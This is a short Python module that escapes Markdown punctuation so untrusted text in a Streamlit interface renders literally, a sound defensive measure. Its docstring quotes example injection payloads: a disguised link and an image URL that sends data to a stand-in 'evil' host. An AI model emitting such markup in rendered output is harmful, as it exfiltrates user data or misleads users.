"""Untrusted text (names, filenames, messages, LLM output) shown as plain text.

Many Streamlit elements render Markdown (progress texts, captions, labels, toasts): a filename
like ``[verify](http://evil)`` would become a link and ``![x](http://evil/?d=…)`` would fetch an
image. Every ASCII punctuation mark is backslash-escaped, which CommonMark defines as the
literal character, so the text reads exactly as typed and nothing in it is markup.
"""

from __future__ import annotations

import re

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def plain(text: object) -> str:
    """``text`` as Markdown that renders as exactly that text."""
    return _PUNCTUATION.sub(r"\\\1", str(text)).replace("\n", "  \n")
